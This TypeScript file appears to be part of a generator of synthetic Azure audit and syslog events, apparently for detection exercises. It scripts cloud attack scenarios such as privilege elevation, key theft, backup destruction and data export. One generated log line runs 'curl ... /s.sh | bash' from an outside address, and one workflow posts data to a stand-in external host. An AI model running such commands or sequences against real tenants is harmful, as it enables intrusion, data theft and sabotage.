/** Attacks on Azure subscriptions. */
import type { Plot } from "./plot.ts";
import { plot } from "./plot.ts";
import { hostingNet } from "../places.ts";
import { HOUR, MINUTE, range } from "../util.ts";

/** The built-in role of owners. */
const OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635";

export const azurePlots: Plot[] = [
  plot("machines-for-mining", "obvious", ["account_compromise"], (s) => {
    const { w, out, rng, key, person, night, intruder } = s;
    const victim = person((p) => w.staff.developers.includes(p));
    const at = intruder();
    const time = night();
    const region = rng.pick(["brazilsouth", "southeastasia", "japaneast"]);
    const group = `/subscriptions/${w.cloud.development}/resourceGroups/rg-${region}`;
    out.signin(time - 6 * MINUTE, victim, at, { app: "Microsoft Azure CLI", mfa: true, unmanaged: true });
    out.azure(time, victim, "Microsoft.Quota/quotas/write",
      `/subscriptions/${w.cloud.development}/providers/Microsoft.Quota/quotas/standardNCSFamily`, { ip: at.net.ip });
    for (const i of range(rng.int(10, 18))) {
      const ids = out.azure(time + 4 * MINUTE + i * 12_000, victim, "Microsoft.Compute/virtualMachines/write",
        `${group}/providers/Microsoft.Compute/virtualMachines/node${rng.hex(4)}`,
        { ip: at.net.ip, status: rng.chance(0.2) ? "Failure" : "Success",
          properties: { location: region, vmSize: "Standard_NC24ads_A100_v4" } });
      key(i < 3 ? ids : []);
    }
    return {
      subjects: [victim.upn, at.net.ip, w.cloud.development],
      summary: "With a stolen developer's account many large machines with graphics cards are made in a region never " +
        "used.",
    };
  }),
  plot("elevated-to-all-subscriptions", "obvious", ["privilege_escalation", "account_compromise"], (s) => {
    const { w, out, rng, key, admin, night, intruder } = s;
    const thief = admin([w.staff.cloud[0]!, w.staff.exchange]);
    const at = intruder();
    const time = night();
    out.signin(time - 4 * MINUTE, thief.account, at, { app: "Azure Portal", mfa: true, unmanaged: true });
    key(out.azure(time, thief.account, "Microsoft.Authorization/elevateAccess/action",
      "/providers/Microsoft.Authorization", { ip: at.net.ip }));
    key(out.azure(time + 3 * MINUTE, thief.account, "Microsoft.Authorization/roleAssignments/write",
      `/subscriptions/${w.cloud.production}/providers/Microsoft.Authorization/roleAssignments/${rng.uuid()}`,
      { ip: at.net.ip, properties: { requestbody: JSON.stringify({ properties: { roleDefinitionId: OWNER,
        principalId: thief.account.id } }) } }));
    return {
      subjects: [thief.account.upn, w.cloud.production, at.net.ip],
      summary: "Access is elevated to the root of all subscriptions at night and made permanent as owner.",
    };
  }),
  plot("storage-keys-read-by-developer", "context", ["data_exfiltration", "insider_threat"], (s) => {
    const { w, out, rng, key, person, work, where } = s;
    const insider = person((p) => w.staff.developers.includes(p));
    const time = work(insider) + 3 * HOUR;
    const store = w.cloud.resources[rng.pick(["drawingStore", "backupStore"])]!;
    const o = { ip: where(insider).net.ip };
    key(out.azure(time, insider, "Microsoft.Storage/storageAccounts/listKeys/action", store, o));
    key(out.azure(time + 4 * MINUTE, insider, "Microsoft.Storage/storageAccounts/listAccountSas/action", store, o));
    out.azure(time + 9 * MINUTE, insider, "Microsoft.Storage/storageAccounts/write", store,
      { ...o, properties: { networkAcls: { defaultAction: "Allow" } } });
    return {
      subjects: [insider.upn, store.split("/").pop()!],
      summary: "A developer who only reads production lists the keys of a store, makes a signature and opens its " +
        "firewall.",
    };
  }),
  plot("disk-of-erp-copied-out", "context", ["data_exfiltration", "account_compromise"], (s) => {
    const { w, out, key, admin, night, rng } = s;
    const thief = admin(w.staff.cloud);
    const time = night();
    const ip = hostingNet(rng).ip;
    const snapshot = w.cloud.resources.erpDisk!.replace("disks/", "snapshots/").replace("vm-erp-dr-01_data_0",
      `snap${rng.hex(4)}`);
    key(out.azure(time, thief.account, "Microsoft.Compute/snapshots/write", snapshot, { ip }));
    key(out.azure(time + 6 * MINUTE, thief.account, "Microsoft.Compute/snapshots/beginGetAccess/action", snapshot,
      { ip }));
    out.azure(time + 3 * HOUR, thief.account, "Microsoft.Compute/snapshots/endGetAccess/action", snapshot, { ip });
    out.azure(time + 3.1 * HOUR, thief.account, "Microsoft.Compute/snapshots/delete", snapshot, { ip });
    return {
      subjects: [thief.account.upn, "vm-erp-dr-01_data_0", ip],
      summary: "A snapshot of the ERP disk is made, exported by a link and deleted again, all from an unknown address.",
    };
  }),
  plot("diagnostics-deleted", "context", ["sabotage"], (s) => {
    const { w, out, key, admin, work, rng } = s;
    const actor = admin(w.staff.cloud);
    const time = work(actor.person);
    for (const resource of rng.some(["vault", "sql", "drawingStore", "nsg"], 3)) {
      key(out.azure(time + rng.int(0, 10) * MINUTE, actor.account, "Microsoft.Insights/diagnosticSettings/delete",
        `${w.cloud.resources[resource]}/providers/Microsoft.Insights/diagnosticSettings/to-law`, { ip: actor.ip }));
    }
    out.azure(time + 14 * MINUTE, actor.account, "Microsoft.Insights/activityLogAlerts/delete",
      w.cloud.resources.workspace!.replace("Microsoft.OperationalInsights/workspaces/law-core",
      "Microsoft.Insights/activityLogAlerts/keyvault-access"), { ip: actor.ip });
    return {
      subjects: [actor.account.upn],
      summary: "Diagnostic settings of vault, database and store are deleted on an ordinary working day, with an alert " +
        "rule.",
    };
  }),
  plot("vault-opened-for-oneself", "context", ["privilege_escalation", "account_compromise"], (s) => {
    const { w, out, rng, key, admin, night, intruder } = s;
    const thief = admin(w.staff.cloud);
    const at = intruder("home");
    const time = night();
    const vault = w.cloud.resources[rng.pick(["vault", "vaultErp"])]!;
    key(out.azure(time, thief.account, "Microsoft.KeyVault/vaults/accessPolicies/write", `${vault}/accessPolicies/add`,
      { ip: at.net.ip, properties: { objectId: thief.account.id,
      permissions: { secrets: ["get", "list"], keys: ["get", "list"] } } }));
    key(out.azure(time + 2 * MINUTE, thief.account, "Microsoft.KeyVault/vaults/write", vault,
      { ip: at.net.ip, properties: { networkAcls: { defaultAction: "Allow" } } }));
    out.signin(time - 3 * MINUTE, thief.account, at,
      { app: "Azure Portal", mfa: true, unmanaged: true, resource: "Azure Key Vault" });
    return {
      subjects: [thief.account.upn, vault.split("/").pop()!, at.net.ip],
      summary: "The vault is opened for one account and all networks, from abroad at night.",
    };
  }),
  plot("command-run-on-virtual-machine", "context", ["account_compromise", "insider_threat"], (s) => {
    const { w, out, rng, key, person, day, at: clock } = s;
    const insider = person((p) => w.staff.cloud.includes(p) || w.staff.developers.includes(p));
    const actor = insider.admin ?? insider;
    const time = clock(day, rng.real(19, 23));
    const vm = w.cloud.resources.portalVm!;
    const host = { ...w.servers.portal!, name: "vm-portal-02", fqdn: "vm-portal-02", ip: "10.60.4.5" };
    key(out.azure(time, actor, "Microsoft.Compute/virtualMachines/runCommand/action", vm, { ip: insider.home.net.ip }));
    key(out.syslog(time + 20_000, host, "sudo", "authpriv", "notice",
      "    root : PWD=/var/lib/waagent/run-command/download/0 ; USER=root ; COMMAND=/bin/bash -c curl -s http://" +
      hostingNet(rng).ip + "/s.sh | bash", { lag: 0 }));
    out.syslog(time + 50_000, host, "useradd", "authpriv", "info",
      "new user: name=svcweb, UID=1019, GID=1019, home=/home/svcweb, shell=/bin/bash, from=none", { lag: 0 });
    return {
      subjects: [actor.upn, "vm-portal-02"],
      summary: "A script from a foreign address is run on the portal machine through Azure, and creates a user.",
    };
  }),
  plot("port-opened-to-the-world", "context", ["policy_violation", "account_compromise"], (s) => {
    const { w, out, rng, key, person, work, where } = s;
    const actor = person((p) => w.staff.cloud.includes(p));
    const account = actor.admin!;
    const time = work(actor);
    const net = hostingNet(rng);
    const host = { ...w.servers.portal!, name: "vm-portal-02", fqdn: "vm-portal-02", ip: "10.60.4.5" };
    key(out.azure(time, account, "Microsoft.Network/networkSecurityGroups/securityRules/write",
      `${w.cloud.resources.nsg}/securityRules/tmp-any`,
      { ip: where(actor).net.ip, properties: { sourceAddressPrefix: "*", destinationPortRange: rng.pick(["22", "3389"]),
      access: "Allow", priority: 100 } }));
    for (const i of range(rng.int(12, 24))) {
      out.ssh(time + 2 * HOUR + i * 9000, host, rng.pick(["root", "azureuser", "admin"]), net.ip, false, "password");
    }
    key(out.ssh(time + 2.2 * HOUR, host, "azureuser", net.ip, true, "password"));
    return {
      subjects: [account.upn, "nsg-portal", "vm-portal-02", net.ip],
      summary: "A rule opens administration of the portal machine to everybody; hours later somebody guesses the " +
        "password.",
    };
  }),
  plot("recovery-vault-destroyed", "obvious", ["sabotage", "account_compromise"], (s) => {
    const { w, out, key, admin, night, intruder } = s;
    const thief = admin(w.staff.cloud);
    const at = intruder();
    const time = night();
    const vault = w.cloud.resources.recovery!;
    const o = { ip: at.net.ip };
    key(out.azure(time, thief.account, "Microsoft.Authorization/locks/delete",
      `${vault}/providers/Microsoft.Authorization/locks/do-not-delete`, o));
    key(out.azure(time + 2 * MINUTE, thief.account, "Microsoft.RecoveryServices/vaults/backupconfig/write",
      `${vault}/backupconfig/vaultconfig`, { ...o, properties: { softDeleteFeatureState: "Disabled" } }));
    for (const i of range(5)) {
      key(out.azure(time + (4 + i) * MINUTE, thief.account,
        "Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/delete",
        `${vault}/backupFabrics/Azure/protectionContainers/c${i}/protectedItems/vm${i}`, o));
    }
    key(out.azure(time + 12 * MINUTE, thief.account, "Microsoft.RecoveryServices/vaults/delete", vault,
      { ...o, status: "Failure" }));
    return {
      subjects: [thief.account.upn, "rsv-prod", at.net.ip],
      summary: "Lock and soft deletion of the backups are removed and the protected items deleted one by one.",
    };
  }),
  plot("runbook-with-web-hook", "hard", ["account_compromise", "privilege_escalation"], (s) => {
    const { w, out, rng, key, admin, work } = s;
    const thief = admin(w.staff.cloud);
    const time = work(thief.person);
    const account = w.cloud.resources.automation!;
    const name = rng.pick(["Update-Modules", "Sync-Tags", "Check-Certificates"]);
    out.azure(time, thief.account, "Microsoft.Automation/automationAccounts/runbooks/write",
      `${account}/runbooks/${name}`, { ip: thief.ip });
    out.azure(time + 2 * MINUTE, thief.account, "Microsoft.Automation/automationAccounts/runbooks/publish/action",
      `${account}/runbooks/${name}`, { ip: thief.ip });
    key(out.azure(time + 5 * MINUTE, thief.account, "Microsoft.Automation/automationAccounts/webhooks/write",
      `${account}/webhooks/${rng.hex(6)}`, { ip: thief.ip }));
    key(out.azure(time + 20 * HOUR, w.apps.miAutomation!, "Microsoft.Authorization/roleAssignments/write",
      `/subscriptions/${w.cloud.production}/providers/Microsoft.Authorization/roleAssignments/${rng.uuid()}`,
      { ip: "20.50.11.9", status: "Failure" }));
    return {
      subjects: [thief.account.upn, "aa-operations", w.apps.miAutomation!.name],
      summary: "A runbook with an innocent name and a web hook are added; a day later its identity tries to give a role.",
    };
  }),
  plot("owner-for-outsider", "obvious", ["privilege_escalation", "account_compromise"], (s) => {
    const { w, out, rng, key, admin, work } = s;
    const actor = admin(w.staff.cloud);
    const guest = rng.pick(w.guests.slice(0, 11));
    const time = work(actor.person);
    key(out.azure(time, actor.account, "Microsoft.Authorization/roleAssignments/write",
      `/subscriptions/${w.cloud.production}/providers/Microsoft.Authorization/roleAssignments/${rng.uuid()}`,
      { ip: actor.ip,
        properties: { requestbody: JSON.stringify(
        { properties: { roleDefinitionId: `/providers/Microsoft.Authorization/roleDefinitions/${OWNER}`,
        principalId: guest.id, principalType: "User" } }) } }));
    key(out.azure(time + 50 * MINUTE, guest, "Microsoft.Storage/storageAccounts/listKeys/action",
      w.cloud.resources.drawingStore!, { ip: guest.home.net.ip }));
    return {
      subjects: [actor.account.upn, guest.upn, w.cloud.production],
      summary: "A guest of a supplier becomes owner of the production subscription and reads the keys of the store " +
        "with drawings.",
    };
  }),
  plot("workflow-sends-orders-elsewhere", "hard", ["data_exfiltration", "insider_threat", "account_compromise"],
    (s) => {
    const { w, out, key, person, work, where, rng } = s;
    const insider = person((p) => w.staff.developers.includes(p) || w.staff.cloud.includes(p));
    const actor = insider.admin ?? insider;
    const time = work(insider) + 4 * HOUR;
    key(out.azure(time, actor, "Microsoft.Logic/workflows/write", w.cloud.resources.logicApp!,
      { ip: where(insider).net.ip, properties: { definition: { actions: { HTTP_2: { inputs: { method: "POST",
      uri: `https://collect.${rng.pick(["webhook-inbox", "flow-relay"])}.example/in` } } } } } }));
    out.azure(time + 6 * MINUTE, actor, "Microsoft.Web/connections/write",
      w.cloud.resources.logicApp!.replace("Microsoft.Logic/workflows/la-supplier-orders",
      "Microsoft.Web/connections/http-2"), { ip: where(insider).net.ip });
    return {
      subjects: [actor.upn, "la-supplier-orders"],
      summary: "One more action in the workflow of supplier orders posts every order to an address outside.",
    };
  }),
  plot("publishing-password-of-function", "context", ["account_compromise"], (s) => {
    const { w, out, rng, key, person, night, intruder } = s;
    const victim = person((p) => w.staff.cloud.includes(p) || w.staff.developers.includes(p));
    const actor = victim.admin ?? victim;
    const at = intruder();
    const time = night();
    out.signin(time - 2 * MINUTE, actor, at, { app: "Microsoft Azure CLI", mfa: true, unmanaged: true });
    key(out.azure(time, actor, "Microsoft.Web/sites/publishxml/action", w.cloud.resources.function!,
      { ip: at.net.ip }));
    key(out.azure(time + MINUTE, actor, "Microsoft.Web/sites/host/listKeys/action", w.cloud.resources.function!,
      { ip: at.net.ip }));
    out.azure(time + rng.int(5, 20) * MINUTE, actor, "Microsoft.Web/sites/config/list/action",
      `${w.cloud.resources.function}/config/appsettings`, { ip: at.net.ip });
    return {
      subjects: [actor.upn, "fn-supplier-api", at.net.ip],
      summary: "Publishing profile, host keys and settings of the supplier interface are read from a rented server.",
    };
  }),
  plot("database-exported", "context", ["data_exfiltration"], (s) => {
    const { w, out, key, admin, day, at: clock, rng } = s;
    const actor = admin([w.staff.dba, ...w.staff.cloud]);
    const time = clock(day, rng.real(19, 22));
    key(out.azure(time, actor.account, "Microsoft.Sql/servers/firewallRules/write",
      w.cloud.resources.sql!.replace("databases/qualitydb", "firewallRules/home"),
      { ip: actor.person.home.net.ip, properties: { startIpAddress: actor.person.home.net.ip } }));
    key(out.azure(time + 8 * MINUTE, actor.account, "Microsoft.Sql/servers/databases/export/action",
      w.cloud.resources.sql!, { ip: actor.person.home.net.ip,
      properties: { storageUri: `https://st${rng.hex(6)}.blob.core.windows.net/b/q.bacpac` } }));
    return {
      subjects: [actor.account.upn, "qualitydb"],
      summary: "In the evening the quality database is opened for a home address and exported to a store which is not " +
        "of the organization.",
    };
  }),
];
